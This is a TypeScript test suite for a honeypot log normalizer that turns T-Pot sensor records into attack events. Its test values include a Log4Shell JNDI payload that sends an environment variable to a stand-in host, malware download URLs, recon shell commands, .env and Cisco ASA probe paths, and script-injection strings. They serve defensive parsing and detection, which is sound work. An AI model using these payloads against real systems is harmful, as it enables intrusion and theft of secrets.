import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { isSkip, type AttackEvent, type NormalizeResult } from '../../src/attack-event.js';
import type { Doc } from '../../src/honeypots/fields.js';
import { ALL_TYPES, HONEYPOT_TYPES } from '../../src/honeypots/honeypot-type.js';
import { allHoneypots, honeypotFor } from '../../src/honeypots/registry.js';

const SHARED = new URL('../../../shared/fixtures/tpot/', import.meta.url);
// Shared fixtures found wrong against upstream, replaced by corrected copies here: the shared ciscoasa.log.jsonl /
// ciscoasa.es.jsonl are JSON, but asa_server writes Python dict reprs (and Logstash keeps them as `message`).
const LOCAL = new URL('../fixtures/tpot/', import.meta.url);
const CORRECTED = new Set(['ciscoasa.es.jsonl', 'ciscoasa.log.txt']);
const fixtureUrl = (name: string): URL => new URL(name, CORRECTED.has(name) ? LOCAL : SHARED);

function jsonLines(name: string): Doc[] {
  const url = fixtureUrl(name);
  if (!existsSync(url)) return [];
  return readFileSync(url, 'utf8').split('\n').filter((l) => l.trim() !== '').map((l) => JSON.parse(l) as Doc);
}

function normalizeEs(file: string): NormalizeResult[] {
  return jsonLines(`${file}.es.jsonl`).map((doc) => {
    const module = honeypotFor(String(doc['type']));
    assert.ok(module, `a module for ${String(doc['type'])}`);
    return module.normalize(doc);
  });
}

/** A Ciscoasa document as Elasticsearch holds it, with this payload. */
function ciscoasaEvent(payload: string): AttackEvent {
  const result = honeypotFor('Ciscoasa')!.normalize({ type: 'Ciscoasa', '@timestamp': '2025-03-14T17:00:00.000Z', timestamp: '2025-03-14T17:00:00.000000', src_ip: '192.0.2.45', payload_printable: payload });
  assert.ok(!isSkip(result));
  return result;
}

function attacks(results: NormalizeResult[]): AttackEvent[] {
  return results.filter((r): r is AttackEvent => !isSkip(r));
}

describe('honeypot catalogue', () => {
  it('has exactly one module per T-Pot type, in T-Pot\'s spelling', () => {
    const types = allHoneypots().map((m) => m.type);
    assert.deepEqual([...types].sort(), [...ALL_TYPES].sort());
    assert.equal(HONEYPOT_TYPES.length, 30);
    for (const module of allHoneypots()) {
      assert.ok(module.logs.length > 0, `${module.type} names its log files`);
      assert.equal(module.role === 'honeypot', (HONEYPOT_TYPES as readonly string[]).includes(module.type), module.type);
    }
  });

  it('documents every honeypot in docs/data-model.md', () => {
    const doc = readFileSync(new URL('../../docs/data-model.md', import.meta.url), 'utf8');
    for (const type of ['Cowrie', 'Dionaea', 'Suricata', 'NGINX', 'P0f', 'Fatt', 'Mailoney', 'Log4pot']) assert.ok(doc.includes(type), type);
  });
});

describe('normalizing T-Pot Elasticsearch documents (shared fixtures)', () => {
  it('Cowrie: SSH port forwarding (direct-tcpip) counts against SSH, not the port the attacker asked to reach', () => {
    const cowrie = honeypotFor('Cowrie')!;
    const forward = cowrie.normalize({ type: 'Cowrie', '@timestamp': '2025-03-14T10:00:00.000Z', eventid: 'cowrie.direct-tcpip.request', src_ip: '198.51.100.7', src_port: 40000, dest_ip: '142.250.0.1', dest_port: 443, session: 'ab12' });
    assert.ok(!isSkip(forward));
    assert.deepEqual([forward.destPort, forward.protocol], [22, 'ssh']);
    const login = cowrie.normalize({ type: 'Cowrie', '@timestamp': '2025-03-14T10:00:00.000Z', eventid: 'cowrie.login.failed', src_ip: '198.51.100.7', dest_port: 2223, protocol: 'ssh', username: 'root', password: 'x' });
    assert.ok(!isSkip(login) && login.destPort === 2223, 'other events keep their port');
  });

  it('Cowrie: credentials, commands, downloads, client version and hassh, IPv6 and private sources passed through', () => {
    const events = attacks(normalizeEs('cowrie'));
    assert.equal(events.length, 12);
    assert.deepEqual(events[3]?.credentials, [{ username: 'root', password: '123456', success: false }]);
    assert.deepEqual(events[4]?.credentials, [{ username: 'root', password: 'admin', success: true }]);
    assert.equal(events[5]?.commands?.[0], 'uname -a; cat /proc/cpuinfo | grep name | wc -l');
    assert.deepEqual(events[6]?.files, [{ url: 'http://198.51.100.99/bins/x86_64', sha256: '3f9a7a1c1b1e8b5b3a2e0b8ff0c5a1d4e8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3', filename: 'x86_64' }]);
    assert.equal(events[1]?.clientVersion, 'SSH-2.0-Go');
    assert.equal(events[2]?.hassh, '0a07365cc01fa9fc82608ba4019af499');
    assert.equal(events[9]?.srcIp, '2001:db8:4f2a::1c');
    assert.equal(events[9]?.destPort, 23);
    assert.equal(events[10]?.credentials?.[0]?.password, '\u0000\u00ffpass');
    assert.equal(events[0]?.time, Date.parse('2025-03-14T09:26:53.589Z'));
    assert.deepEqual(events[0]?.sensorIps, ['203.0.113.10', '10.20.0.5']);
  });

  it('Dionaea: services, joined credential lists paired, an empty password kept as one', () => {
    const events = attacks(normalizeEs('dionaea'));
    assert.equal(events[0]?.protocol, 'smbd');
    assert.deepEqual(events[1]?.credentials, [{ username: 'sa', password: '' }, { username: 'sa', password: 'sa' }, { username: 'sa', password: 'P@ssw0rd' }]);
    assert.equal(events[4]?.transport, 'udp');
  });

  it('web honeypots: paths on the honeypot (never its host name) and user agents', () => {
    const wordpot = attacks(normalizeEs('wordpot'));
    assert.deepEqual(wordpot[0]?.requests, [{ path: '/wp-login.php' }]);
    assert.deepEqual(wordpot[0]?.credentials, [{ username: 'admin', password: 'admin123' }]);
    const elasticpot = attacks(normalizeEs('elasticpot'));
    assert.deepEqual(elasticpot[1]?.requests, [{ method: 'GET', path: '/_cat/indices?v' }]);
    assert.deepEqual(elasticpot[1]?.userAgents, ['python-requests/2.31.0']);
    const tanner = attacks(normalizeEs('tanner'));
    assert.ok(tanner.every((e) => (e.userAgents?.length ?? 0) === 1));
    const ciscoasa = attacks(normalizeEs('ciscoasa'));
    assert.deepEqual(ciscoasa[0]?.requests, [{ method: 'GET', path: '/+CSCOE+/logon.html' }]);
    // An IKE alert (a list of bytes reprs) is no HTTP request: no path, and the protocol says IKE, on UDP 5000.
    const ike = ciscoasa.find((e) => e.srcIp === '198.51.100.200');
    assert.equal(ike?.requests, undefined);
    assert.deepEqual([ike?.protocol, ike?.transport, ike?.destPort], ['ike', 'udp', 5000]);
    // The access-log form asa_server's request log writes: quoted request line, then status and size.
    const quoted = ciscoasaEvent('"GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua HTTP/1.1" 200 -');
    assert.deepEqual(quoted.requests, [{ method: 'GET', path: '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua' }]);
    assert.equal(quoted.protocol, 'https');
    assert.deepEqual(ciscoasaEvent('"GET /" 400 -').requests, [{ method: 'GET', path: '/' }]);
    const h0neytr4p = attacks(normalizeEs('h0neytr4p'));
    assert.deepEqual(h0neytr4p[0]?.requests, [{ method: 'GET', path: '/.env' }]);
  });

  it('Suricata: an alert on a reply names the flow\'s initiator, not the responder', () => {
    const suricata = honeypotFor('Suricata')!;
    const alert = (extra: Doc) => suricata.normalize({ type: 'Suricata', '@timestamp': '2025-03-14T10:00:00.000Z', event_type: 'alert', proto: 'TCP', alert: { signature: 'ET INFO x', signature_id: 1 }, ...extra });
    // A flow the sensor opened (an update, a honeypot fetching a URL): the remote server answered, it attacked no one.
    const outbound = alert({ direction: 'to_client', src_ip: '140.82.112.3', src_port: 443, dest_ip: '10.20.0.5', dest_port: 51000, flow: { src_ip: '10.20.0.5', dest_ip: '140.82.112.3', src_port: 51000, dest_port: 443 }, geoip: { country_code2: 'US', asn: 36459 } });
    assert.ok(!isSkip(outbound));
    assert.deepEqual([outbound.srcIp, outbound.destPort, outbound.origin], ['10.20.0.5', 443, undefined]);
    // A flow an attacker opened, alert on the honeypot's reply: the attacker, on the honeypot's port.
    const reply = alert({ direction: 'to_client', src_ip: '10.20.0.5', src_port: 80, dest_ip: '198.51.100.7', dest_port: 40000, flow: { src_ip: '198.51.100.7', dest_ip: '10.20.0.5', src_port: 40000, dest_port: 80 } });
    assert.ok(!isSkip(reply));
    assert.deepEqual([reply.srcIp, reply.srcPort, reply.destPort], ['198.51.100.7', 40000, 80]);
    // to_server, or no direction (Suricata before 7): as the document says.
    const request = alert({ direction: 'to_server', src_ip: '198.51.100.7', dest_port: 80, flow: { src_ip: '198.51.100.7' } });
    assert.ok(!isSkip(request) && request.srcIp === '198.51.100.7');
  });

  it('Suricata: alerts only, with signature and CVE ids', () => {
    const results = normalizeEs('suricata');
    assert.deepEqual(results.map((r) => (isSkip(r) ? r.skip : 'attack')), ['attack', 'nsm_context', 'nsm_context', 'nsm_context', 'attack']);
    const [log4j] = attacks(results);
    assert.deepEqual(log4j?.cves, ['CVE-2021-44228']);
    assert.equal(log4j?.alerts?.[0]?.signatureId, 2034647);
  });

  it('Log4pot: CVE-2021-44228 only for JNDI lookups; documents without an attacker are skipped', () => {
    const results = normalizeEs('log4pot');
    assert.ok(isSkip(results[0]!) && results[0].skip === 'no_src_ip');
    assert.ok(attacks(results).some((e) => e.cves?.includes('CVE-2021-44228')));
    // The lookup's server, from the deobfuscated payload (obfuscated ${lower:j}ndi too): the attacker's infrastructure.
    assert.deepEqual(attacks(results).map((e) => e.callbacks), [['ldap://198.51.100.99:1389/a'], ['ldap://198.51.100.99:1389/a'], undefined, ['rmi://203.0.113.99/Exp']]);
    const nested = honeypotFor('Log4pot')!.normalize({ type: 'Log4pot', timestamp: '2025-03-14T13:01:00.000000', src_ip: '198.51.100.200', payload: '${jndi:ldap://${env:USER}.203.0.113.5/a}' });
    assert.ok(!isSkip(nested));
    assert.deepEqual(nested.cves, ['CVE-2021-44228']);
    assert.equal(nested.callbacks, undefined, 'an unresolved nested lookup names no server');
  });

  it('Adbhoney and Redishoneypot: URLs inside commands are downloads (they log no download of their own)', () => {
    const adb = attacks(normalizeEs('adbhoney')).flatMap((e) => e.files ?? []);
    assert.deepEqual(adb.filter((f) => f.url !== undefined).map((f) => f.url), ['http://203.0.113.88/w.sh', 'http://203.0.113.88/c.sh']);
    assert.ok(adb.some((f) => f.sha256 !== undefined), 'uploaded files keep their hash');
    const redis = attacks(normalizeEs('redishoneypot')).flatMap((e) => e.files ?? []);
    assert.deepEqual(redis.map((f) => f.url), ['http://203.0.113.88/cr.sh']);
  });

  it('Mailoney: sender addresses, from MAIL FROM lines only (a RCPT TO line lists the victim)', () => {
    const senders = attacks(normalizeEs('mailoney')).flatMap((e) => e.senderEmails ?? []);
    assert.deepEqual(senders, ['spam@example.net']);
    const rcpt = normalizeEs('mailoney').find((r) => !isSkip(r) && r.time === Date.parse('2025-03-14T03:00:01.200Z'));
    assert.ok(rcpt !== undefined && !isSkip(rcpt), 'the RCPT TO line is still an attack by its sender');
    assert.equal(rcpt.senderEmails, undefined);
  });

  it('P0f and NGINX are never attacks', () => {
    assert.ok(normalizeEs('p0f').every((r) => isSkip(r) && r.skip === 'nsm_context'));
    assert.ok(normalizeEs('nginx').every((r) => isSkip(r) && r.skip === 'excluded_type'));
  });
});

describe('native log lines reshaped like Logstash give the same attacks as the Elasticsearch documents', () => {
  const pairs: [string, string][] = [
    ['adbhoney', 'adbhoney.log.jsonl'], ['ciscoasa', 'ciscoasa.log.txt'], ['conpot', 'conpot.log.jsonl'], ['cowrie', 'cowrie.log.jsonl'],
    ['dionaea', 'dionaea.log.jsonl'], ['elasticpot', 'elasticpot.log.jsonl'], ['endlessh', 'endlessh.log.txt'], ['h0neytr4p', 'h0neytr4p.log.jsonl'],
    ['heralding', 'heralding.log.csv'], ['honeytrap', 'honeytrap.log.jsonl'], ['ipphoney', 'ipphoney.log.jsonl'], ['log4pot', 'log4pot.log.jsonl'],
    ['mailoney', 'mailoney.log.jsonl'], ['medpot', 'medpot.log.jsonl'], ['miniprint', 'miniprint.log.jsonl'], ['redishoneypot', 'redishoneypot.log.jsonl'],
    ['sentrypeer', 'sentrypeer.log.jsonl'], ['suricata', 'suricata.log.jsonl'], ['tanner', 'tanner.log.jsonl'], ['wordpot', 'wordpot.log.jsonl'],
  ];
  for (const [name, nativeFile] of pairs) {
    it(name, () => {
      const esDocs = jsonLines(`${name}.es.jsonl`);
      const type = String(esDocs[0]?.['type']);
      const module = honeypotFor(type)!;
      const text = readFileSync(fixtureUrl(nativeFile), 'utf8');
      let records: Doc[];
      if (nativeFile.endsWith('.csv')) records = parseCsv(text, { columns: true }) as Doc[];
      else if (nativeFile.endsWith('.txt')) records = text.split('\n').filter((l) => l !== '').map((message) => ({ message }));
      else records = text.split('\n').filter((l) => l.trim() !== '').map((l) => JSON.parse(l) as Doc);
      const fromNative = records
        .map((r) => module.fromNative(r, module.logs[0]!.path))
        .filter((d): d is Doc => d !== undefined)
        .map((d) => module.normalize({ ...d, type }));
      // A line fromNative leaves out as no attack (Ciscoasa's start-up lines) is indexed all the same, without a src_ip.
      const fromEs = esDocs.map((d) => module.normalize(d)).filter((r) => !(isSkip(r) && r.skip === 'no_src_ip' && !fromNative.some((n) => isSkip(n) && n.skip === 'no_src_ip')));
      const key = (r: NormalizeResult) => (isSkip(r) ? `skip:${r.skip}` : `${r.srcIp}@${r.time}|${JSON.stringify([r.credentials, r.commands, r.requests, r.userAgents, r.cves, r.senderEmails, r.files])}`);
      assert.deepEqual(fromNative.map(key), fromEs.map(key));
    });
  }
});

describe('hostile documents never make a module throw', () => {
  const hostileValues: unknown[] = [null, 42, -1, 1e308, true, [], ['a', 1], { a: 1 }, '', 'x'.repeat(100_000), '\u0000\u001b[2J<script>', '::ffff:', '[', '1.2.3.4:99999'];
  const fields = ['src_ip', 'timestamp', '@timestamp', 'time', 'eventid', 'input', 'url', 'username', 'password', 'path', 'headers', 'alert', 'event_type',
    'connection', 'request_uri', 'http.url', 'payload', 'data', 'emails', 'addr', 'source_ip', 'message', 'peer', 'attack_connection', 'authorization', 'request', 'qs', 'dest_port'];
  it('for every module, every field, every hostile value', () => {
    for (const module of allHoneypots()) {
      for (const name of fields) {
        for (const value of hostileValues) {
          const doc = { type: module.type, '@timestamp': '2025-03-14T00:00:00Z', src_ip: '198.51.100.1', eventid: 'cowrie.command.input', event_type: 'alert', alert: { signature: 'x' }, [name]: value };
          assert.doesNotThrow(() => module.normalize(doc), `${module.type}.normalize with ${name}=${String(value).slice(0, 20)}`);
          assert.doesNotThrow(() => module.fromNative(doc, module.logs[0]!.path), `${module.type}.fromNative with ${name}`);
        }
      }
    }
  });
});
